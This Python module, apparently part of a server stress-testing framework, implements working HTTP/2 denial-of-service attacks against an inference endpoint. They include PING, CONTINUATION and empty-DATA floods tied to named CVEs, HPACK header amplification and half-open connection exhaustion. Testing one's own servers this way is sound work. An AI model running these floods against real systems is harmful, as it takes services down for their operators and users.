"""Floods of HTTP/2 frames, and half-open connections."""

import contextlib
import itertools
import socket
import time

from campaigns.drills.attack import Attack, Strike, attack
from campaigns.drills.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    call_headers,
    frame,
    literal,
)

_FLOODS = "floods of frames"
_CONNECTIONS = "connections"

_AT_ONCE = 1000


def _flood(
    strike: Strike, frames: bytes, before: bytes = b"", *, count: int | None = None, reads: bool = False
) -> None:
    """Send the same frames repeatedly on one connection, without reading the answers."""
    with strike.connect() as connection:
        connection.send(before, strike.until)
        for _ in itertools.count() if count is None else range(count):
            if not connection.send(frames, strike.until, reads=reads):
                break
        connection.note(strike.answers.note)


@attack(_FLOODS)
def unread_pings(strike: Strike) -> None:
    """Send 50,000 PINGs (850 kB) and leave the answers unread (CVE-2019-9512)."""
    _flood(strike, frame(PING, payload=bytes(8)) * _AT_ONCE, count=50)


@attack(_FLOODS)
def continuations(strike: Strike) -> None:
    """Send a header block that never ends, in small and in empty CONTINUATION frames (CVE-2024-27316)."""
    started = frame(HEADERS, 0, 1, call_headers(strike.path("ModelInfer")))
    _flood(strike, frame(CONTINUATION, 0, 1, literal("x-key", "y" * 100)) * 100, started, reads=True)
    _flood(strike, frame(CONTINUATION, 0, 1) * _AT_ONCE, started, reads=True)


@attack(_FLOODS)
def empty_data_frames(strike: Strike) -> None:
    """Send empty data frames endlessly on one call (CVE-2019-9518)."""
    opened = frame(HEADERS, END_HEADERS, 1, call_headers(strike.path("ModelInfer")))
    _flood(strike, frame(DATA, 0, 1) * _AT_ONCE, opened, reads=True)


@attack(_FLOODS)
def indexed_headers(strike: Strike) -> None:
    """Index a header field of 4 kB once and refer to it 15,000 times per call: 60 MB of headers from 15 kB."""
    indexed = b"\x40" + literal("x-key", "y" * 4000)[1:]
    path = strike.path("ModelInfer")
    with strike.connect() as connection:
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, call_headers(path) + indexed), strike.until)
        for stream in range(3, 400, 2):
            block = call_headers(path) + b"\xbe" * 15_000
            if not connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block), strike.until):
                break
        connection.note(strike.answers.note)


@attack(_CONNECTIONS)
def half_open_connections(strike: Strike) -> None:
    """Keep 500 connections open that have sent nothing, half a preface, or a preface."""
    with contextlib.ExitStack() as held:
        for number in itertools.takewhile(lambda _: strike.left(), range(500)):
            try:
                client = held.enter_context(socket.create_connection((strike.host, strike.port), 2))
                client.sendall((b"", PREFACE[:12], PREFACE)[number % 3])
                strike.answers.note("OPEN")
            except OSError as error:
                strike.answers.note("REFUSED", type(error).__name__)
        time.sleep(strike.left())


ATTACKS: tuple[Attack, ...] = (
    unread_pings, continuations, empty_data_frames, indexed_headers, half_open_connections,
)  # fmt: skip
